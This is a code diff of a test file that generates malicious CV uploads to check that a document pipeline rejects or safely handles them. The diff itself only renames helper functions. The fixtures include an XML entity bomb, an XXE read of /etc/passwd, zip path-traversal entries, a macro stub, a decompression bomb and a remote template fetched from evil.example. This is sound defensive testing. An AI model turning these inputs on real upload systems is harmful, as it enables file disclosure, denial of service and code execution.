@@ -1,4 +1,4 @@
-import { docx, zip } from "#app/storage/storage.testing.ts";
+import { createDocx, createZip } from "#app/storage/storage.testing.ts";
 import { pdf } from "../documents.ts";
 
 /** Generated malicious CVs: `refused` are never stored; others are renamed and read in bounded time. */
@@ -112,15 +112,15 @@ const pdfs = [
 
 const laughs = `<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join("")}]>`;
 const archives = [
-	refused("plain.docx", zip({ "readme.txt": "oi" })),
-	refused("macro.docx", docx("oi", { "word/vbaProject.bin": "Sub AutoOpen()" })),
-	refused("climbing.docx", docx("oi", { "../../etc/cron.d/x": "* * * * *" })),
-	refused("absolute.docx", docx("oi", { "/etc/passwd": "root" })),
-	refused("backslash.docx", docx("oi", { "..\\..\\x.dll": "MZ" })),
-	refused("bomb.docx", docx("oi", { "word/media/a.xml": "0".repeat(60_000_000) })),
-	refused("program.docx", zip({ "a.exe": "MZ" })),
-	refused("jar.docx", zip({ "META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "A.class": "\xca\xfe" })),
-	refused("cut.docx", docx("oi").subarray(0, 200)),
+	refused("plain.docx", createZip({ "readme.txt": "oi" })),
+	refused("macro.docx", createDocx("oi", { "word/vbaProject.bin": "Sub AutoOpen()" })),
+	refused("climbing.docx", createDocx("oi", { "../../etc/cron.d/x": "* * * * *" })),
+	refused("absolute.docx", createDocx("oi", { "/etc/passwd": "root" })),
+	refused("backslash.docx", createDocx("oi", { "..\\..\\x.dll": "MZ" })),
+	refused("bomb.docx", createDocx("oi", { "word/media/a.xml": "0".repeat(60_000_000) })),
+	refused("program.docx", createZip({ "a.exe": "MZ" })),
+	refused("jar.docx", createZip({ "META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "A.class": "\xca\xfe" })),
+	refused("cut.docx", createDocx("oi").subarray(0, 200)),
 	refused("no-directory.docx", bytes("PK\x03\x04", [20, 0, 0, 0, 8, 0])),
 	refused(
 		"tail-only.docx",
@@ -131,18 +131,18 @@ const archives = [
 	),
 	harmless(
 		"entity.docx",
-		docx("&e;", {}, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
+		createDocx("&e;", {}, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
 	),
-	harmless("laughs.docx", docx("&m;", {}, laughs)),
+	harmless("laughs.docx", createDocx("&m;", {}, laughs)),
 	harmless(
 		"outside.docx",
-		docx("oi", {
+		createDocx("oi", {
 			"word/_rels/document.xml.rels":
 				'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
 		}),
 	),
-	harmless("unclosed.docx", docx("<w:t>")),
-	harmless("script.docx", docx("&lt;script&gt;alert(1)&lt;/script&gt;")),
+	harmless("unclosed.docx", createDocx("<w:t>")),
+	harmless("script.docx", createDocx("&lt;script&gt;alert(1)&lt;/script&gt;")),
 ];
 
 const names = [
